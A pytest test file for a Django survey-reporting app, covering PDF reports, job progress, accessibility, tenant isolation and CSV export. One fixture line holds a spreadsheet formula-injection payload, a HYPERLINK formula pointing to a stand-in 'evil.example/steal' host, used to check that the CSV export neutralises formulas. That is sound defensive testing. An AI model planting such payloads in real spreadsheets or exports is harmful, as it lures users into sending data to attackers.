import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from organisations.models import Role
from surveys import analysis, reports
from surveys.models import ReportJob, Response, Survey, SurveyQuestion
from surveys.services import survey_responses_changed

from . import test_analysis as base
from .test_analysis import make_survey, store, synthetic_answers

admin = base.admin

HYPERLINK = '=HYPERLINK("http://evil.example/steal","Click for details")'


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def survey(admin):
    before = make_survey(admin, title="Survey 2024", year=2024)
    store(before, synthetic_answers(300, seed=11, shift=-0.4), prefix="a")
    channels = ["online"] * 200 + ["telephone"] * 95 + ["letter"] * 5
    groups = [{"age_band": "16-24" if i % 2 else "25-34", "disability": "No"} for i in range(300)]
    survey = make_survey(admin, title="Survey 2025", year=2025)
    return store(survey, synthetic_answers(300, seed=12), channels=channels, groups=groups)


def start_report(client, survey, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        return client.post(reverse("survey_reports:start", args=[survey.pk]))


def pdf_text(job):
    with job.file.open("rb") as handle:
        reader = PdfReader(io.BytesIO(handle.read()))
    text = " ".join(page.extract_text() for page in reader.pages)
    return len(reader.pages), " ".join(text.split())


def test_a_member_asks_for_the_report_and_gets_a_real_pdf(
    alpha, survey, login, django_capture_on_commit_callbacks
):
    client = login(alpha[Role.APPLICANT_EDITOR])
    response = start_report(client, survey, django_capture_on_commit_callbacks)

    job = ReportJob.objects.get(survey=survey)
    assert response.url == reverse("survey_reports:job", args=[job.pk])
    assert (job.status, job.progress, job.error) == (ReportJob.Status.DONE, 100, "")
    pages, text = pdf_text(job)
    assert pages >= 5
    for words in ("Alpha Borough Council", "Survey 2025", "Delivery", "Staff attitude"):
        assert words in text
    figures = analysis.cached_survey_analysis(survey)
    overall = figures["scores"][0]
    assert f"{overall['satisfied_pct']:.1f}%" in text  # from the scores table
    assert "Fewer than 10 responses" in text  # the letter channel
    assert "Key drivers of overall satisfaction" in text
    first = figures["kda"]["drivers"][0]
    assert f"{first['beta']:.2f}" in text
    assert "Compared with “Survey 2024”" in text


def test_the_pdf_of_a_survey_holds_its_charts_each_with_its_table(survey):
    # How long it takes is measured in bench/, not here: these machines are too noisy.
    html = reports.render_to_string(reports.PDF_TEMPLATE, reports.report_context(survey))

    pdf = reports.render_pdf(html)

    assert pdf.startswith(b"%PDF")
    assert html.count('role="img"') == 3 and html.count('class="govuk-table') >= 6


def _report_html(survey):
    return reports.render_to_string(reports.PDF_TEMPLATE, reports.report_context(survey))


def _text_of(pdf: bytes) -> str:
    reader = PdfReader(io.BytesIO(pdf))
    return " ".join(" ".join(page.extract_text() for page in reader.pages).split())


def test_the_pdf_gives_the_response_rate_as_a_percentage(survey):
    Survey.objects.filter(pk=survey.pk).update(invited_count=1038)
    survey.refresh_from_db()

    text = _text_of(reports.render_pdf(_report_html(survey)))

    assert "300 (response rate 28.9%)" in text  # 300 of 1,038, as the method check says
    assert "Response rate recorded: 28.9% of 1,038 invited." in text
    assert "0.289" not in text
    assert "Nothing is shown about fewer than 10 responses. " in text
    assert "Intervals are 95% confidence intervals." in text


def test_the_pdf_says_when_the_intervals_are_narrowed_for_the_population(survey):
    Survey.objects.filter(pk=survey.pk).update(population=2000)
    survey.refresh_from_db()

    html = _report_html(survey)

    assert (
        "Intervals are 95% confidence intervals, narrowed by the finite population "
        "correction for the whole survey."
    ) in html


def test_the_charts_and_wide_tables_scroll_in_regions_the_keyboard_can_reach(survey):
    html = _report_html(survey)

    for label in (
        "Chart of the share satisfied by driver",
        "Chart of importance against satisfaction",
        "Chart of the change since the previous survey",
    ):
        assert f'<div class="app-chart" tabindex="0" role="region" aria-label="{label}">' in html
    for name in ("channel", "age band", "disability"):
        assert (
            '<div class="app-table-scroll" tabindex="0" role="region" '
            f'aria-label="Share satisfied by {name}">'
        ) in html
    assert html.count('tabindex="0" role="region"') == 6
    assert html.count("95% interval of the share") == 1
    assert html.count("95% interval of the average") == 1


def test_the_job_page_answers_json_for_the_progress_script(
    alpha, survey, login, django_capture_on_commit_callbacks
):
    client = login(alpha[Role.APPLICANT_ADMIN])
    job_url = start_report(client, survey, django_capture_on_commit_callbacks).url
    job = ReportJob.objects.get()

    data = client.get(job_url, HTTP_ACCEPT="application/json").json()

    assert data["status"] == "done" and data["progress"] == 100
    assert data["download_url"] == reverse("survey_reports:download", args=[job.pk])


def test_the_job_page_shows_progress_and_works_without_javascript(alpha, survey, login):
    job = ReportJob.objects.create(
        survey=survey,
        requested_by=alpha[Role.APPLICANT_ADMIN].user,
        status=ReportJob.Status.RUNNING,
        progress=60,
    )
    client = login(alpha[Role.APPLICANT_EDITOR])

    response = client.get(reverse("survey_reports:job", args=[job.pk]))
    page = response.content.decode()

    assert page.count("<h1") == 1
    assert '<progress id="report-progress" max="100" value="60">' in page
    assert "Building your report: 60%" in page and "Check again" in page
    assert "js/job-progress.js" in page and "<script>" not in page
    assert "Accept" in response["Vary"]
    assert reverse("survey_reports:results_csv", args=[survey.pk]) in page


def test_the_download_is_a_pdf_attachment(alpha, survey, login, django_capture_on_commit_callbacks):
    client = login(alpha[Role.INTERNAL_ASSESSOR])
    start_report(client, survey, django_capture_on_commit_callbacks)
    job = ReportJob.objects.get()

    response = client.get(reverse("survey_reports:download", args=[job.pk]))

    assert response["Content-Type"] == "application/pdf"
    assert (
        f"survey-report-alpha-borough-council-{survey.pk}.pdf" in (response["Content-Disposition"])
    )
    assert b"".join(response.streaming_content).startswith(b"%PDF")


def test_a_running_job_whose_worker_stopped_is_claimed_again(alpha, survey):
    silent = timezone.now() - timedelta(minutes=5)
    job = ReportJob.objects.create(
        survey=survey,
        requested_by=alpha[Role.APPLICANT_ADMIN].user,
        status=ReportJob.Status.RUNNING,
        progress=30,
    )
    ReportJob.objects.filter(pk=job.pk).update(started_at=silent, heartbeat_at=silent)

    reports.report_job_run(job_id=job.pk)

    job.refresh_from_db()
    assert (job.status, job.progress) == (ReportJob.Status.DONE, 100)


def test_a_job_another_worker_is_building_is_left_to_it(alpha, survey, monkeypatch):
    job = ReportJob.objects.create(
        survey=survey,
        requested_by=alpha[Role.APPLICANT_ADMIN].user,
        status=ReportJob.Status.RUNNING,
        progress=30,
        started_at=timezone.now(),
    )
    calls = []
    monkeypatch.setattr(reports, "render_pdf", lambda html: calls.append(html) or b"%PDF-x")

    reports.report_job_run(job_id=job.pk)

    job.refresh_from_db()
    assert calls == [] and (job.status, job.progress) == (ReportJob.Status.RUNNING, 30)


def test_a_failure_leaves_the_job_failed_with_a_message(
    alpha, survey, login, django_capture_on_commit_callbacks, monkeypatch
):
    def broken(html):
        raise RuntimeError("no fonts available")

    monkeypatch.setattr(reports, "render_pdf", broken)
    client = login(alpha[Role.APPLICANT_ADMIN])
    job_url = start_report(client, survey, django_capture_on_commit_callbacks).url

    job = ReportJob.objects.get()
    assert job.status == ReportJob.Status.FAILED and "no fonts available" in job.error
    data = client.get(job_url, HTTP_ACCEPT="application/json").json()
    assert (data["status"], data["download_url"]) == ("failed", None)
    assert "Try again" in client.get(job_url).content.decode()


def test_the_csv_has_every_response_and_neutralises_formulas(alpha, admin, login):
    survey = make_survey(admin, title="Survey with a trap")
    SurveyQuestion.objects.create(survey=survey, code="parking", wording="Parking", kind="yes_no")
    store(survey, synthetic_answers(12), groups=[{"age_band": HYPERLINK}] * 12)
    Response.objects.filter(survey=survey, respondent_id="r0").update(
        respondent_id=HYPERLINK, extra={"parking": True}
    )
    survey_responses_changed(survey=survey)
    client = login(alpha[Role.APPLICANT_EDITOR])

    response = client.get(reverse("survey_reports:results_csv", args=[survey.pk]))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    header, first = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert header[:6] == [
        "Respondent",
        "Date",
        "Channel",
        "Site",
        "Overall satisfaction",
        "Delivery",
    ]
    assert len(rows) == 13
    assert first["Respondent"] == "'" + HYPERLINK
    assert first["Age band"] == "'" + HYPERLINK
    assert (first["Channel"], first["Parking"]) == ("Online", "Yes")
    assert all(not cell.startswith("=") for row in rows for cell in row)


def test_the_csv_reads_the_responses_in_chunks(admin, monkeypatch):
    survey = store(make_survey(admin), synthetic_answers(25))
    monkeypatch.setattr(reports, "CSV_CHUNK", 10)

    lines = reports.results_csv(survey)

    assert next(lines).startswith("\ufeffRespondent,")
    assert len(list(lines)) == 25


def test_another_tenant_gets_404_everywhere(
    alpha, beta, survey, login, django_capture_on_commit_callbacks
):
    start_report(login(alpha[Role.APPLICANT_ADMIN]), survey, django_capture_on_commit_callbacks)
    job = ReportJob.objects.get()
    client = login(beta[Role.APPLICANT_ADMIN])

    job_url = reverse("survey_reports:job", args=[job.pk])
    assert client.get(job_url).status_code == 404
    assert client.get(job_url, HTTP_ACCEPT="application/json").status_code == 404
    assert client.get(reverse("survey_reports:download", args=[job.pk])).status_code == 404
    assert client.get(reverse("survey_reports:results_csv", args=[survey.pk])).status_code == 404
    assert client.post(reverse("survey_reports:start", args=[survey.pk])).status_code == 404
    assert ReportJob.objects.count() == 1


def test_a_certification_body_cannot_build_the_organisations_report(alpha, survey, login):
    client = login(alpha[Role.CB_MANAGER])

    assert client.post(reverse("survey_reports:start", args=[survey.pk])).status_code == 404
